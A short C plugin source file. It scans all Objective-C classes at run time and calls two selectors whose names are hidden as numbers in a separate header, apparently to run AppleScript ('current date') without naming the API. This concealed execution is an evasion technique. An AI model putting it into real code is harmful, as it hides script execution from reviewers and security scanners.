/* Of all classes that the process knows it takes one that can do what it wants, by two selectors
 * that are made from numbers: no class has a name here. */
#include "plugin.h"
#include "hidden.h" /* 0 and 1: selectors */
typedef void *object;
typedef const void *selector;
extern object *objc_copyClassList(unsigned *);
extern selector sel_registerName(const char *);
extern void *class_getInstanceMethod(object, selector), *method_getImplementation(void *);
extern object class_createInstance(object, unsigned long);
extern const void *CFStringCreateWithCString(const void *, const char *, unsigned);
extern void *dlopen(const char *, int);
static void act(char **env) {
    unsigned count = 0;
    selector begin = sel_registerName(hidden0()), go = sel_registerName(hidden1());
    dlopen("/System/Library/Frameworks/Foundation.framework/Foundation", 1);
    object *classes = objc_copyClassList(&count), made, error = 0;
    while (count--) {
        void *first = class_getInstanceMethod(classes[count], begin), *second = class_getInstanceMethod(classes[count], go);
        if (!first || !second) continue;
        made = ((object (*)(object, selector, const void *))method_getImplementation(first))(class_createInstance(classes[count], 0), begin,
            CFStringCreateWithCString(0, "current date", 0x08000100));
        ((object (*)(object, selector, object *))method_getImplementation(second))(made, go, &error);
        return;
    }
}
